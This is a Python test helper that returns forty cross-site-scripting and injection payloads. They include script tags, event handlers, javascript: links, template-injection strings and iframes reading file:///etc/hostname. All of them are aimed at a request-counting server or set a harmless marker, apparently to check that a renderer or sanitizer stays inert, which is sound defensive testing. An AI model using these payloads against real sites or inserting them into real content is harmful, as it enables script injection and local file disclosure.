"""Texts that would reach out, read a file or run as code, if anything took them for more than text."""

from __future__ import annotations


def payloads(server: str) -> list[str]:
    """Return forty texts; server is the address that counts who asks."""
    file = "file:///etc/hostname"
    ran = "window.ran=1;document.title='ran'"
    return [
        f"<img src={server}/1>",
        f'<img src=x onerror="{ran}">',
        f"<script>{ran}</script>",
        f"</script><script>{ran}</script>",
        f"<script src={server}/2></script>",
        f'<svg onload="{ran}">',
        f"<svg><image href='{server}/3'/></svg>",
        f"<svg><use href='{server}/4#a'/></svg>",
        f"<svg><script>{ran}</script></svg>",
        f"<iframe src='{server}/5'></iframe>",
        f'<iframe srcdoc="<script>parent.{ran}</script>"></iframe>',
        f"<iframe src='{file}'></iframe>",
        f"<object data='{server}/6'></object>",
        f"<embed src='{file}'>",
        f"<link rel=stylesheet href='{server}/7'>",
        f"<link rel=prefetch href='{server}/8'>",
        f"<link rel=dns-prefetch href='{server}'>",
        f"<style>@import url('{server}/9');</style>",
        f'<b style="background:url({server}/10)">x</b>',
        f"<a href='{server}/11' target=_blank>click</a>",
        f'<a href="javascript:{ran}">click</a>',
        f"<a href='{file}'>click</a>",
        f"<a href='{server}/12' ping='{server}/13'>click</a>",
        f"<video src='{server}/14' autoplay></video>",
        f"<audio src='{file}'></audio>",
        f"<meta http-equiv=refresh content='0;url={server}/15'>",
        f"<base href='{server}/16/'>",
        f"<form action='{server}/17'><button autofocus>x</button></form>",
        f'<input autofocus onfocus="{ran}">',
        f'<details open ontoggle="{ran}">x</details>',
        f'<body onload="{ran}">',
        f"<math><mtext><script>{ran}</script></mtext></math>",
        f'"); {ran}; ("',
        f"'); {ran}; ('",
        f"${{{ran}}}",
        f'%{{customdata}} {{{{constructor.constructor("{ran}")()}}}}',
        f"<b><i><sup><a href='{server}/18'>x</a></sup></i></b>",
        f"&lt;script&gt;{ran}&lt;/script&gt;",
        f"\u2028{ran}\u2029</title><script>{ran}</script>",
        f"]]><image xlink:href='{server}/19'/><!--",
    ]
